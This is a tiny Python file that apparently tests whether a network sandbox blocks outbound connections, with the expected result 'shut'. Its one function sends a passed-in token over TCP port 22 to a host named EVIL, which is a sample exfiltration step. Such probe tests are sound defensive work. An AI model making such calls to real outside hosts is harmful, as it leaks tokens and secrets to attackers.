"""
how: SSH to an address
expect: shut
"""

from land import EVIL
from sockets import tcp


def attempt(token):
    return tcp(EVIL, 22, token)
